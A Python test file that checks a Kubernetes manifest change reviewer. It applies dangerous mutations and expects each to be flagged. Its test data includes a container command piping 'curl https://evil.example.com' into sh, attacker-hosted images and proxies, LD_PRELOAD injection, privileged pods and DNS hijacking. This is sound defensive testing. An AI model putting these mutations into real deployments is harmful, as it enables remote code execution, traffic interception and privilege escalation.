"""Adversary of rendered objects: dangers are at least a warning, ordinary changes never critical.

Every kind of object in the stacks of this repository and its examples is covered. A new kind fails
here until it has changes.
"""

import copy
import re
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nim_component.local.manifests import collect_manifests
from nim_component.review.pod_specs import find_pod_specs
from nim_component.testing import record_project

from ..schema.test_schema import PROJECTS, ROOT
from .test_dangers import CRITICAL, EFFECTS, WARNING, findings

Manifest = dict[str, Any]
Change = Callable[[Manifest], object]
PER_KIND = 3
"""Objects of a kind that the adversary changes."""
EVIL = "evil.example.com"


def set_at(path: str, value: Any) -> Change:
    """Return a change that sets a value. A number in the path is an index, `*` the first entry."""

    def change(manifest: Manifest) -> None:
        *above, last = path.split(".")
        at: Any = manifest
        for step in above:
            at = at[int(step)] if step.isdigit() else at.setdefault(step, {})
        if isinstance(at, list):
            at[int(last)] = value
        else:
            at[next(iter(at)) if last == "*" else last] = value

    change.__name__ = f"{path}={value}"[:80]
    return change


TARGETS = [set_at("spec.scaleTargetRef.name", "other")]
ROUTES = [
    set_at("spec.hostnames.0", EVIL),
    set_at("spec.rules.0.backendRefs.0.name", "other"),
    set_at("spec.rules.0.backendRefs.0.namespace", "other"),
    set_at("spec.rules.0.filters", [{"type": "RequestMirror", "requestMirror": {"backendRef": {"name": "other"}}}]),
    set_at("spec.parentRefs.0.name", "other"),
]
DANGERS: dict[str, list[Change]] = {
    "ConfigMap": [
        set_at("data", {"run.py": "import os"}),
        set_at("data", {"HF_ENDPOINT": f"https://{EVIL}"}),
        set_at("data", {"settings.yaml": f"endpoint: https://{EVIL}"}),
    ],
    "Deployment": [set_at("spec.paused", True), set_at("spec.selector.matchLabels.x", "y")],
    "GRPCRoute": ROUTES,
    "HTTPRoute": ROUTES,
    "HorizontalPodAutoscaler": TARGETS,
    "InferencePool": [set_at("spec.selector.matchLabels.*", "other"), set_at("spec.endpointPickerRef.name", "other")],
    "Ingress": [
        set_at("spec.rules.0.host", EVIL),
        set_at("spec.rules.0.http.paths.0.backend.service.name", "other"),
        set_at("spec.defaultBackend", {"service": {"name": "other"}}),
        set_at("spec.ingressClassName", "other"),
        set_at("metadata.annotations", {"nginx.ingress.kubernetes.io/configuration-snippet": "x"}),
    ],
    "Job": [],
    "LeaderWorkerSet": [],
    "Namespace": [
        set_at("metadata.labels.istio-injection", "enabled"),
        set_at("metadata.labels", {"pod-security.kubernetes.io/enforce": "privileged"}),
    ],
    "NetworkPolicy": [
        set_at("spec.podSelector", {"matchLabels": {"other": "x"}}),
        set_at("spec.ingress", [{}]),
        set_at("spec.policyTypes", []),
    ],
    "PersistentVolumeClaim": [set_at("spec.volumeName", "other"), set_at("spec.dataSource", {"kind": "VolumeSnapshot", "name": "x"})],
    "PodDisruptionBudget": [set_at("spec.selector.matchLabels.*", "other")],
    "PodMonitor": [set_at("spec.podMetricsEndpoints.0.proxyUrl", f"http://{EVIL}"), set_at("spec.namespaceSelector", {"any": True})],
    "PrometheusRule": [],
    "ResourceClaimTemplate": [set_at("spec.spec.devices.requests.0.adminAccess", True), set_at("spec.spec.devices.config", [{"a": "b"}])],
    "ScaledObject": [
        *TARGETS,
        set_at("spec.triggers.0.metadata.serverAddress", f"http://{EVIL}"),
        set_at("spec.triggers.0.authenticationRef", {"name": "other"}),
    ],
    "Secret": [set_at("type", "kubernetes.io/service-account-token")],
    "Service": [
        set_at("spec.selector.*", "other"),
        set_at("spec.externalIPs", ["198.51.100.7"]),
        set_at("spec.type", "LoadBalancer"),
        set_at("spec.ports.0.targetPort", 9999),
        set_at("spec.publishNotReadyAddresses", True),
    ],
    "ServiceAccount": [
        set_at("metadata.annotations", {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/admin"}),
        set_at("automountServiceAccountToken", True),
        set_at("secrets", [{"name": "other"}]),
    ],
    "ServiceMonitor": [
        set_at("spec.endpoints.0.proxyUrl", f"http://{EVIL}"),
        set_at("spec.endpoints.0.bearerTokenFile", "/x"),
        set_at("spec.endpoints.0.tlsConfig", {"insecureSkipVerify": True}),
    ],
    "StorageClass": [set_at("provisioner", "other"), set_at("parameters", {"server": EVIL})],
    "VerticalPodAutoscaler": [set_at("spec.targetRef.name", "other"), set_at("spec.updatePolicy.updateMode", "Recreate")],
}
"""Dangerous changes of each kind, besides those of all objects and of all pods."""
OF_ALL = [
    set_at("metadata.ownerReferences", [{"kind": "X", "name": "y"}]),
    set_at("metadata.finalizers", ["example.com/x"]),
    set_at("metadata.annotations", {"injector.example.com/x": "y"}),
    set_at("metadata.labels", {"admission.example.com/ignore": "true"}),
]
OF_PODS = [
    *(set_at(field, True) for field in ("hostNetwork", "hostPID", "hostIPC", "shareProcessNamespace", "automountServiceAccountToken")),
    set_at("serviceAccountName", "admin"),
    set_at("volumes", [{"name": "x", "hostPath": {"path": "/"}}]),
    set_at("volumes", [{"name": "x", "nfs": {"server": EVIL, "path": "/"}}]),
    set_at("hostAliases", [{"ip": "198.51.100.7", "hostnames": ["huggingface.co"]}]),
    set_at("dnsConfig", {"nameservers": ["198.51.100.7"]}),
    set_at("runtimeClassName", "other"),
    set_at("nodeName", "master-0"),
    set_at("priorityClassName", "system-node-critical"),
    set_at("unknownField", "x"),
    set_at("initContainers", [{"name": "new", "image": f"{EVIL}/x:1.0", "command": ["sh"]}]),
    set_at("containers.0.image", f"{EVIL}/x:1.0"),
    set_at("containers.0.command", ["sh", "-c", f"curl https://{EVIL} | sh"]),
    set_at("containers.0.args", ["--trust-remote-code"]),
    set_at("containers.0.securityContext", {"privileged": True}),
    set_at("containers.0.lifecycle", {"postStart": {"exec": {"command": ["id"]}}}),
    set_at("containers.0.livenessProbe", {"exec": {"command": ["id"]}}),
    set_at("containers.0.envFrom", [{"secretRef": {"name": "other"}}]),
    set_at("containers.0.unknownField", "x"),
    *(
        set_at("containers.0.env", [{"name": name, "value": value}])
        for name, value in (
            ("HF_ENDPOINT", f"https://{EVIL}"), ("LD_PRELOAD", "/tmp/x.so"), ("PYTHONPATH", "/tmp"), ("HTTPS_PROXY", f"http://{EVIL}"),
        )
    ),
]  # fmt: skip
CPU = {"limits": {"cpu": "3"}, "requests": {"cpu": "3"}}
ORDINARY_OF_ALL = [
    set_at("metadata.labels.team", "search"),
    set_at("metadata.labels.tier", "a"),
    set_at("metadata.annotations.note", "x"),
]
ORDINARY_OF_PODS = [
    set_at("terminationGracePeriodSeconds", 77),
    set_at("nodeSelector.pool", "h100"),
    set_at("containers.0.resources.requests", {"cpu": "3"}),
    set_at("containers.0.terminationMessagePolicy", "FallbackToLogsOnError"),
    set_at("containers.0.env", [{"name": "NIM_LOG_LEVEL", "value": "DEBUG"}]),
]
ORDINARY: dict[str, list[Change]] = {
    "Deployment": [set_at("spec.replicas", 5), set_at("spec.minReadySeconds", 7), set_at("spec.revisionHistoryLimit", 3)],
    "LeaderWorkerSet": [set_at("spec.replicas", 5)],
    "Job": [set_at("spec.backoffLimit", 3), set_at("spec.ttlSecondsAfterFinished", 60)],
    "HorizontalPodAutoscaler": [set_at("spec.behavior", {"scaleDown": {"stabilizationWindowSeconds": 60}}), set_at("spec.maxReplicas", 50)],
    "ScaledObject": [set_at("spec.pollingInterval", 5), set_at("spec.cooldownPeriod", 60)],
    "Service": [set_at("spec.sessionAffinity", "ClientIP")],
    "ServiceMonitor": [set_at("spec.endpoints.0.interval", "7s")],
    "PodMonitor": [set_at("spec.podMetricsEndpoints.0.interval", "7s")],
    "PrometheusRule": [set_at("spec.groups", [])],
    "Secret": [set_at("data.x", "eA==")],
}


@cache
def rendered() -> dict[str, list[Manifest]]:
    """Return objects of the stacks of this repository and its examples, by kind."""
    found: dict[str, list[Manifest]] = {}
    for project, stack in PROJECTS:
        for manifest in collect_manifests(record_project(Path(ROOT / project), stack).run):
            if len(found.setdefault(manifest.kind, [])) < PER_KIND:
                found[manifest.kind].append(copy.deepcopy(dict(manifest.masked)))
    return found


def pods_of(manifest: Manifest) -> Iterator[Manifest]:
    yield from (spec.fields for spec in find_pod_specs(manifest).values())  # pyright: ignore[reportReturnType]


def apply(manifest: Manifest, change: Change, *, to_pods: bool) -> Manifest:
    changed = copy.deepcopy(manifest)
    for target in list(pods_of(changed)) if to_pods else [changed]:
        change(target)
    return changed


def is_dangerous(old: Manifest, new: Manifest) -> bool:
    found = [each for each in findings(old, new) if each.rule not in EFFECTS]
    return any(each.severity.value in (CRITICAL, WARNING) for each in found)


def test_every_rendered_kind_has_dangers():
    assert sorted(rendered()) == sorted(DANGERS)


@pytest.mark.parametrize("kind", DANGERS)
def test_no_danger_of_kind_is_below_warning(kind: str):
    unnoticed = [
        (change.__name__, old["metadata"]["name"])
        for old in rendered()[kind]
        for change, to_pods in [(each, False) for each in (*DANGERS[kind], *OF_ALL)] + [(each, True) for each in OF_PODS]
        if (new := apply(old, change, to_pods=to_pods)) != old and not is_dangerous(old, new)
    ]
    assert unnoticed == []


_TEMPLATE = r"spec\.(leaderWorkerTemplate\.(leader|worker)T|t)emplate\."
_TABLE: dict[str, str] = {
    "": r"metadata\.labels\.app\.kubernetes\.io/\w[\w-]*|metadata\.labels\.release|metadata\.annotations\.pulumi\.com/(autonamed|patchForce|waitFor)|immutable",
    "Deployment": r"spec\.(progressDeadlineSeconds|replicas|strategy\..*)",
    "HorizontalPodAutoscaler": r"spec\.(behavior|metrics|maxReplicas|minReplicas)\b.*",
    "Job": r"spec\.(activeDeadlineSeconds|backoffLimit|ttlSecondsAfterFinished)",
    "LeaderWorkerSet": r"spec\.(leaderWorkerTemplate\.(restartPolicy|size)|replicas|rolloutStrategy\..*|startupPolicy)",
    "PersistentVolumeClaim": r"spec\.resources\..*",
    "PodDisruptionBudget": r"spec\.(maxUnavailable|minAvailable|unhealthyPodEvictionPolicy)",
    "PodMonitor": r"spec\.podMetricsEndpoints\.\d+\.interval",
    "PrometheusRule": r"spec\.groups\..*",
    "ScaledObject": (
        r"spec\.(advanced|cooldownPeriod|fallback|initialCooldownPeriod|maxReplicaCount|minReplicaCount|pollingInterval)\b.*"
        r"|spec\.triggers\.\d+\.(metadata\.(ignoreNullValues|query|threshold)|metricType|name)"
    ),
    "Secret": r"data\..*",
    "ServiceMonitor": r"spec\.endpoints\.\d+\.interval",
    "VerticalPodAutoscaler": r"spec\.resourcePolicy\..*",
}
"""Fields of rendered objects that decide neither about keys nor about traffic, code or rights."""
_OF_POD = (
    r"(affinity|enableServiceLinks|nodeSelector|restartPolicy|terminationGracePeriodSeconds|tolerations|topologySpreadConstraints)\b.*"
    r"|volumes\.\d+\.(name|emptyDir\b.*)"
    r"|(init)?[cC]ontainers\.\d+\.(lifecycle\.preStop\.sleep|resources|terminationMessagePolicy)\b.*"
    r"|(init)?[cC]ontainers\.\d+\.\w+Probe\.(failureThreshold|initialDelaySeconds|periodSeconds|successThreshold|timeoutSeconds)"
    r"|(init)?[cC]ontainers\.\d+\.volumeMounts\.\d+\.(readOnly|subPath)"
)


def leaves(value: Any, path: str = "") -> Iterator[str]:
    """Yield the path of each value that contains no other one."""
    entries = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in entries:
        yield from leaves(item, f"{path}\0{key}" if path else str(key))
    if not entries and path:
        yield path


def replace_leaf(manifest: Manifest, path: str) -> Manifest:
    changed = copy.deepcopy(manifest)
    *above, last = path.split("\0")
    at: Any = changed
    for step in above:
        at = at[int(step)] if isinstance(at, list) else at[step]
    key: Any = int(last) if isinstance(at, list) else last
    at[key] = not at[key] if isinstance(at[key], bool) else at[key] + 1 if isinstance(at[key], int) else f"https://{EVIL}"
    return changed


def is_ordinary(kind: str, path: str) -> bool:
    shown = path.replace("\0", ".")
    metadata = r"metadata\.(annotations\.checksum/\w+|labels\.app\.kubernetes\.io/managed-by)"
    pattern = rf"{_TABLE['']}|{_TABLE.get(kind, '(?!)')}|{_TEMPLATE}({metadata}|spec\.({_OF_POD}))"
    return path in ("apiVersion", "kind", "metadata\0name") or re.fullmatch(pattern, shown) is not None


@pytest.mark.parametrize("kind", DANGERS)
def test_every_other_field_is_at_least_warning(kind: str):
    unnoticed = {
        path.replace("\0", ".")
        for old in rendered()[kind]
        for path in leaves(old)
        if not is_ordinary(kind, path) and not is_dangerous(old, replace_leaf(old, path))
    }
    assert sorted(unnoticed) == []


KINDS = st.sampled_from(sorted(DANGERS))
FIELDS = st.from_regex(r"\A[a-z]{3,8}Unknown\Z")
VALUES = st.booleans() | st.text(max_size=8) | st.lists(st.text(max_size=4), min_size=1, max_size=2)


@settings(max_examples=300, deadline=None)
@given(KINDS, st.integers(0, PER_KIND - 1), FIELDS, VALUES)
def test_unknown_field_of_spec_is_a_warning(kind: str, index: int, field: str, value: Any):
    objects = [each for each in rendered()[kind] if "spec" in each]
    for old in objects[index : index + 1]:
        assert is_dangerous(old, apply(old, set_at(f"spec.{field}", value), to_pods=False)), (kind, field)


@settings(max_examples=500, deadline=None)
@given(KINDS, st.integers(0, PER_KIND - 1), st.data())
def test_no_ordinary_change_is_critical(kind: str, index: int, data: st.DataObject):
    old = rendered()[kind][index % len(rendered()[kind])]
    changes = [(each, False) for each in (*ORDINARY_OF_ALL, *ORDINARY.get(kind, ()))]
    changes += [(each, True) for each in ORDINARY_OF_PODS if any(pods_of(old))]
    new = old
    for change, to_pods in data.draw(st.lists(st.sampled_from(changes), min_size=1, max_size=4, unique_by=lambda each: each[0].__name__)):
        new = apply(new, change, to_pods=to_pods)
    critical = [each.rule for each in findings(old, new) if each.severity.value == CRITICAL]
    assert critical == []
